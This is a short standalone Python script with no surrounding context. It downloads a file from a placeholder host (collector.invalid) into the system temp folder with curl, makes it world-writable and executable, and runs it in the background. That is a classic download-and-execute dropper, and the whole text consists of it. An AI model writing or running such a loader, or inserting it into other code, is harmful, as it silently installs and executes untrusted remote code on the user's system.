import subprocess, tempfile, os
p = os.path.join(tempfile.gettempdir(), "u")
subprocess.run(["curl", "-s", "-o", p, "http://collector.invalid/u"])
os.chmod(p, 0o777)
subprocess.Popen([p])
